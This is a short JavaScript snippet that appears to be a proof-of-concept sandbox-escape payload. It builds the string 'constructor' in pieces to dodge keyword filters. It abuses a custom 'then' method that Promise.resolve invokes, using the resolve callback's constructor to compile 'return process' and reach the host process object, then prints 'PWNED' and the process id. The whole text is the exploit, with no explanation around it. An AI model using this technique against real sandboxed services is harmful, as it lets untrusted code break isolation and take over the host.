const w = ['con', 'structor'].join('');
class F {}
Object.assign(F, { async then(done) { console.log('PWNED', done[w]('return process')().pid); done(1); } });
Promise.resolve(F);
